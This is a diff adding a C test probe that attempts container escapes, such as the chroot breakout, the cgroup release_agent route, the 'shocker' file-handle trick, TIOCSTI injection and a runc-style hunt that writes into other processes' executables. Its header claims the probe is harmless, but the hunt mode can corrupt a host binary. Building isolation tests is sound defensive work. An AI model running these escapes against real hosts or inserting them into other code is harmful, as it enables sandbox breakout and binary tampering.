@@ -1,0 +1,432 @@
+/*
+ * Attacks on the walls of a container, for the tests: each does one thing that should not work from
+ * inside, and says "done" or "stopped" with the reason. `table FILE` does every line of a file,
+ * each in a process of its own. Nothing here harms a machine whose walls are gone.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/bpf.h>
+#include <linux/perf_event.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/klog.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define MAX_WORDS 16
+
+/* 0: it worked; -1 with errno: it did not. */
+typedef int attack(int argc, char **argv);
+
+static const char *word(int argc, char **argv, int index) {
+  return index < argc ? argv[index] : "";
+}
+
+static int close_and(int fd) { return fd < 0 ? -1 : close(fd); }
+
+static int do_mount(int argc, char **argv) {
+  return mount("none", word(argc, argv, 2), word(argc, argv, 1), 0, word(argc, argv, 3));
+}
+
+static int do_bind(int argc, char **argv) {
+  return mount(word(argc, argv, 1), word(argc, argv, 2), NULL, MS_BIND | MS_REC, NULL);
+}
+
+static int do_remount(int argc, char **argv) {
+  return mount("none", word(argc, argv, 1), NULL, MS_REMOUNT | MS_BIND, NULL);
+}
+
+static int do_umount(int argc, char **argv) { return umount2(word(argc, argv, 1), MNT_DETACH); }
+
+static int do_open_tree(int argc, char **argv) {
+  return close_and((int)syscall(SYS_open_tree, AT_FDCWD, word(argc, argv, 1), 1 /* CLONE */));
+}
+
+static int do_fsopen(int argc, char **argv) {
+  return close_and((int)syscall(SYS_fsopen, word(argc, argv, 1), 0));
+}
+
+static int do_unshare(int argc, char **argv) {
+  return unshare((int)strtol(word(argc, argv, 1), NULL, 0));
+}
+
+static int do_setns(int argc, char **argv) {
+  int fd = open(word(argc, argv, 1), O_RDONLY | O_CLOEXEC);
+  return fd < 0 ? -1 : setns(fd, 0);
+}
+
+/* The old way out of a chroot: a second one below, and up from a directory above it. */
+static int do_chroot(int argc, char **argv) {
+  (void)argc;
+  (void)argv;
+  mkdir("/tmp-chroot", 0755);
+  if (chroot("/tmp-chroot") < 0) return -1;
+  for (int i = 0; i < 64; i++)
+    if (chdir("..") < 0) return -1;
+  return chroot(".");
+}
+
+/* The release agent of cgroups v1, by a user namespace of our own (CVE-2022-0492). */
+static int do_release_agent(int argc, char **argv) {
+  const char *place = word(argc, argv, 1);
+  if (strcmp(word(argc, argv, 2), "unshare") == 0 &&
+      unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
+    return -1;
+  mkdir(place, 0755);
+  if (mount("none", place, "cgroup", 0, "freezer") < 0) return -1;
+  char path[256];
+  snprintf(path, sizeof(path), "%s/release_agent", place);
+  return close_and(open(path, O_WRONLY | O_CLOEXEC));
+}
+
+static int do_device(int argc, char **argv) {
+  const char *path = word(argc, argv, 1);
+  mode_t type = *word(argc, argv, 2) == 'b' ? S_IFBLK : S_IFCHR;
+  dev_t number = makedev((unsigned)atoi(word(argc, argv, 3)), (unsigned)atoi(word(argc, argv, 4)));
+  unlink(path);
+  if (mknod(path, type | 0600, number) < 0) return -1;
+  int opened = close_and(open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC));
+  int error = errno;
+  unlink(path);
+  errno = error;
+  return opened;
+}
+
+static int do_open(int argc, char **argv) {
+  return close_and(open(word(argc, argv, 1), O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC));
+}
+
+static int do_open_write(int argc, char **argv) {
+  return close_and(open(word(argc, argv, 1), O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC));
+}
+
+static int do_read(int argc, char **argv) {
+  char bytes[64];
+  int fd = open(word(argc, argv, 1), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+  ssize_t count = fd < 0 ? -1 : read(fd, bytes, sizeof(bytes));
+  if (count == 0) errno = ENODATA;
+  return count > 0 ? 0 : -1;
+}
+
+static int do_list(int argc, char **argv) {
+  DIR *entries = opendir(word(argc, argv, 1));
+  int found = 0;
+  if (!entries) return -1;
+  for (struct dirent *entry; (entry = readdir(entries));) found += entry->d_name[0] != '.';
+  closedir(entries);
+  errno = ENODATA;
+  return found ? 0 : -1;
+}
+
+static int do_create(int argc, char **argv) {
+  const char *path = word(argc, argv, 1);
+  int made = close_and(open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600));
+  if (made == 0) unlink(path);
+  return made;
+}
+
+/* A file of the same file system by its handle, past every directory (the "shocker"). */
+static int do_handle(int argc, char **argv) {
+  struct {
+    struct file_handle head;
+    unsigned char bytes[128];
+  } handle;
+  const char *hex = word(argc, argv, 3);
+  int mounted = open(word(argc, argv, 1), O_RDONLY | O_CLOEXEC);
+  if (mounted < 0) return -1;
+  handle.head.handle_type = atoi(word(argc, argv, 2));
+  handle.head.handle_bytes = (unsigned)strlen(hex) / 2;
+  for (unsigned i = 0; i < handle.head.handle_bytes; i++) {
+    unsigned byte;
+    sscanf(hex + 2 * i, "%2x", &byte);
+    handle.bytes[i] = (unsigned char)byte;
+  }
+  return close_and(open_by_handle_at(mounted, &handle.head, O_RDONLY));
+}
+
+static int name_handle(const char *path) {
+  struct {
+    struct file_handle head;
+    unsigned char bytes[128];
+  } handle = {.head.handle_bytes = 128};
+  int mount_id;
+  if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0) return 1;
+  printf("%d ", handle.head.handle_type);
+  for (unsigned i = 0; i < handle.head.handle_bytes; i++)
+    printf("%02x", ((unsigned char *)handle.head.f_handle)[i]);
+  puts("");
+  return 0;
+}
+
+static int do_ptrace(int argc, char **argv) {
+  pid_t pid = (pid_t)atoi(word(argc, argv, 1));
+  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) return -1;
+  ptrace(PTRACE_DETACH, pid, NULL, NULL);
+  return 0;
+}
+
+static int do_peek(int argc, char **argv) {
+  char byte;
+  struct iovec here = {.iov_base = &byte, .iov_len = 1};
+  struct iovec there = {.iov_base = (void *)0x400000, .iov_len = 1};
+  ssize_t count = process_vm_readv((pid_t)atoi(word(argc, argv, 1)), &here, 1, &there, 1, 0);
+  return count < 0 && errno == EFAULT ? 0 : count < 0 ? -1 : 0;
+}
+
+static int do_signal(int argc, char **argv) { return kill((pid_t)atoi(word(argc, argv, 1)), 0); }
+
+static int do_hostname(int argc, char **argv) {
+  (void)argc;
+  (void)argv;
+  char name[256];
+  return gethostname(name, sizeof(name)) < 0 ? -1 : sethostname(name, strlen(name));
+}
+
+static int do_clock(int argc, char **argv) {
+  (void)argc;
+  (void)argv;
+  struct timespec now;
+  clock_gettime(CLOCK_REALTIME, &now);
+  return clock_settime(CLOCK_REALTIME, &now);
+}
+
+static int do_kernel_log(int argc, char **argv) {
+  (void)argc;
+  (void)argv;
+  char bytes[64];
+  return klogctl(3 /* READ_ALL */, bytes, sizeof(bytes)) < 0 ? -1 : 0;
+}
+
+static int do_bpf(int argc, char **argv) {
+  (void)argc;
+  (void)argv;
+  struct bpf_insn program[] = {{.code = 0xb7}, {.code = 0x95}};
+  union bpf_attr attributes = {0};
+  attributes.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
+  attributes.insns = (uintptr_t)program;
+  attributes.insn_cnt = 2;
+  attributes.license = (uintptr_t) "GPL";
+  return close_and((int)syscall(SYS_bpf, BPF_PROG_LOAD, &attributes, sizeof(attributes)));
+}
+
+static int do_perf(int argc, char **argv) {
+  (void)argc;
+  (void)argv;
+  struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof(event)};
+  event.config = PERF_COUNT_SW_CPU_CLOCK;
+  return close_and((int)syscall(SYS_perf_event_open, &event, -1, 0, -1, 0)); /* all of cpu 0 */
+}
+
+static int do_packets(int argc, char **argv) {
+  (void)argc;
+  (void)argv;
+  return close_and(socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));
+}
+
+/* An abstract socket, or one with a name, that somebody else listens on. */
+static int do_connect(int argc, char **argv) {
+  const char *name = word(argc, argv, 1);
+  struct sockaddr_un address = {.sun_family = AF_UNIX};
+  size_t length = strlen(name) < sizeof(address.sun_path) ? strlen(name) : 0;
+  memcpy(address.sun_path, name, length);
+  if (*name == '@') address.sun_path[0] = '\0';
+  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length);
+  return connect(fd, (struct sockaddr *)&address, size);
+}
+
+static int do_push_input(int argc, char **argv) {
+  unsigned long request = TIOCSTI;
+  if (strcmp(word(argc, argv, 1), "wide") == 0) request |= 0x12300000000ul;
+  return (int)syscall(SYS_ioctl, 0, request, "x");
+}
+
+/* A program with the set-user-id bit, run by somebody else. */
+static int do_set_user(int argc, char **argv) {
+  if (setresuid(1000, 1000, 1000) < 0) return -1;
+  execl(word(argc, argv, 1), "atk", "is-root", (char *)NULL);
+  return -1;
+}
+
+static int do_is_root(int argc, char **argv) {
+  (void)argc;
+  (void)argv;
+  errno = EPERM;
+  return geteuid() == 0 ? 0 : -1;
+}
+
+static const struct {
+  const char *name;
+  attack *run;
+} ATTACKS[] = {
+    {"mount", do_mount},
+    {"bind", do_bind},
+    {"remount", do_remount},
+    {"umount", do_umount},
+    {"open-tree", do_open_tree},
+    {"fsopen", do_fsopen},
+    {"unshare", do_unshare},
+    {"setns", do_setns},
+    {"chroot", do_chroot},
+    {"release-agent", do_release_agent},
+    {"device", do_device},
+    {"open", do_open},
+    {"open-write", do_open_write},
+    {"read", do_read},
+    {"list", do_list},
+    {"create", do_create},
+    {"handle", do_handle},
+    {"ptrace", do_ptrace},
+    {"peek", do_peek},
+    {"signal", do_signal},
+    {"hostname", do_hostname},
+    {"clock", do_clock},
+    {"kernel-log", do_kernel_log},
+    {"bpf", do_bpf},
+    {"perf", do_perf},
+    {"packets", do_packets},
+    {"connect", do_connect},
+    {"push-input", do_push_input},
+    {"set-user", do_set_user},
+    {"is-root", do_is_root},
+};
+
+static int try(int argc, char **argv) {
+  for (size_t i = 0; i < sizeof(ATTACKS) / sizeof(ATTACKS[0]); i++) {
+    if (strcmp(ATTACKS[i].name, argv[0]) != 0) continue;
+    if (ATTACKS[i].run(argc, argv) == 0) {
+      puts("done");
+      return 0;
+    }
+    const char *name = strerrorname_np(errno);
+    printf("stopped %s\n", name ? name : "?");
+    return 1;
+  }
+  puts("unknown");
+  return 64;
+}
+
+/* Every line of the file in a process of its own, so that none helps the next. */
+static int table(const char *file) {
+  char line[2048];
+  FILE *lines = fopen(file, "re");
+  if (!lines) return 64;
+  while (fgets(line, sizeof(line), lines)) {
+    char *words[MAX_WORDS + 1] = {0};
+    int count = 0;
+    line[strcspn(line, "\n")] = '\0';
+    printf("%s: ", line);
+    fflush(stdout);
+    for (char *at = strtok(line, " "); at && count < MAX_WORDS; at = strtok(NULL, " "))
+      words[count++] = at;
+    pid_t child = fork();
+    if (child == 0) {
+      alarm(10);
+      int code = count ? try(count, words) : 64;
+      fflush(stdout);
+      _exit(code);
+    }
+    int status = 0;
+    waitpid(child, &status, 0);
+    if (WIFSIGNALED(status)) printf("stopped SIG%s\n", sigabbrev_np(WTERMSIG(status)));
+    fflush(stdout);
+  }
+  fclose(lines);
+  return 0;
+}
+
+/* Exchanges two names for ever. */
+static void swap(const char *one, const char *other) {
+  for (;;) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
+}
+
+struct prey {
+  long seen;
+  long attached;
+  long listed;
+  long written;
+  char exe[256];
+};
+
+/* What an attacker does to a process that comes in (CVE-2016-9962, CVE-2019-5736). */
+static void pounce(pid_t pid, struct prey *prey, int *exes, int count) {
+  char path[64];
+  char target[256];
+  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+  ssize_t length = readlink(path, target, sizeof(target) - 1);
+  target[length > 0 ? length : 0] = '\0';
+  if (strncmp(target, "/atk", 4) == 0 || strncmp(target, "/probe", 6) == 0) return;
+  prey->seen++;
+  if (*target) snprintf(prey->exe, sizeof(prey->exe), "%s", target);
+  int exe = open(path, O_PATH | O_CLOEXEC);
+  if (exe >= 0 && count > 0) exes[prey->seen % count] = exe;
+  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
+    prey->attached++;
+    ptrace(PTRACE_DETACH, pid, NULL, NULL);
+  }
+  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+  DIR *fds = opendir(path);
+  if (fds) {
+    prey->listed++;
+    closedir(fds);
+  }
+}
+
+static void overwrite(int *exes, int count, struct prey *prey) {
+  for (int i = 0; i < count; i++) {
+    char path[64];
+    if (exes[i] < 0) continue;
+    snprintf(path, sizeof(path), "/proc/self/fd/%d", exes[i]);
+    int writable = open(path, O_WRONLY | O_CLOEXEC);
+    if (writable >= 0 && pwrite(writable, "#", 1, 0) == 1) prey->written++;
+    if (writable >= 0) close(writable);
+  }
+}
+
+/* Waits for processes that are not ours, for so many seconds; says what could be done to them. */
+static int hunt(int seconds) {
+  enum { KEPT = 16 };
+  int exes[KEPT];
+  struct prey prey = {0};
+  time_t end = time(NULL) + seconds;
+  for (int i = 0; i < KEPT; i++) exes[i] = -1;
+  puts("hunting");
+  fflush(stdout);
+  while (time(NULL) < end) {
+    DIR *entries = opendir("/proc");
+    for (struct dirent *entry; entries && (entry = readdir(entries));) {
+      pid_t pid = (pid_t)atoi(entry->d_name);
+      if (pid > 1 && pid != getpid()) pounce(pid, &prey, exes, KEPT);
+    }
+    if (entries) closedir(entries);
+    overwrite(exes, KEPT, &prey);
+  }
+  printf("seen %ld attached %ld listed %ld written %ld exe %s\n", prey.seen, prey.attached,
+         prey.listed, prey.written, prey.exe);
+  return 0;
+}
+
+int main(int argc, char **argv) {
+  const char *first = word(argc, argv, 1);
+  if (strcmp(first, "table") == 0) return table(word(argc, argv, 2));
+  if (strcmp(first, "swap") == 0) swap(word(argc, argv, 2), word(argc, argv, 3));
+  if (strcmp(first, "hunt") == 0) return hunt(atoi(word(argc, argv, 2)));
+  if (strcmp(first, "name-handle") == 0) return name_handle(word(argc, argv, 2));
+  return argc > 1 ? try(argc - 1, argv + 1) : 64;
+}
